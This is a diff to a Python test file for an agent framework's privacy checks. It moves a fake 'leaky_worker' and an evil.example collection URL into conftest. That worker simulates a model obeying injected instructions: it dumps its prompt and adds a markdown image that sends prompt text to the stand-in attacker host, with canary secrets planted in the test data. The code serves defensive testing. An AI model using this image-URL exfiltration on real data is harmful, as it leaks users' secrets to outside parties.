@@ -31,9 +31,9 @@ from tandem.agents.privacy import (
     read_egress_log,
 )
 from tandem.workers import WorkerSpec
-from tandem.workers.testing import FakeOllama, FakeOpenAI, grounded_reply, rule_supervisor
+from tandem.workers.testing import FakeOllama, FakeOpenAI, rule_supervisor
 
-from .conftest import CHAT_MODEL, demo_specs
+from .conftest import CHAT_MODEL, EVIL, demo_specs, leaky_worker
 
 # litellm's response types build a pydantic schema with a ReadOnly TypedDict item on first
 # use and warn about it; which test triggers that depends on import order. Not tandem's.
@@ -43,7 +43,6 @@ CANARY = "tk9fQ2xL7mP4vR8sW1zB6nC3"
 VAULT_EMAIL = "treasurer@falcon-holdings.com"
 VAULT_IBAN = "DE89 3704 0044 0532 0130 00"
 VAULT_PHONE = "+49 30 901820"
-EVIL = "https://evil.example/collect"
 VAULT_DOC = f"""# Vault access
 
 The master recovery token for the deposit vault is {CANARY}; never share it.
@@ -113,21 +112,6 @@ QUERIES: list[tuple[str, list[str]]] = [
     ("Which deposits go into the vault holding account?", []),
 ]
 PASSAGE_SECRETS = [CANARY, VAULT_EMAIL, VAULT_IBAN, VAULT_PHONE, "+49 30", "0532 0130"]
-
-
-def leaky_worker(body: dict[str, Any]) -> str:
-    """A worker that obeys injected instructions: dumps its whole prompt, adds the image."""
-    prompt = body["messages"][-1]["content"]
-    grounded = json.loads(grounded_reply(body))
-    return json.dumps(
-        {
-            "answer": f"{grounded['answer']} Everything I was given: {prompt} "
-            f"![status]({EVIL}?d={prompt[:40]})",
-            "confidence": 0.2,
-            "citations": grounded["citations"],
-            "needs_escalation": True,
-        }
-    )
 
 
 @pytest.fixture
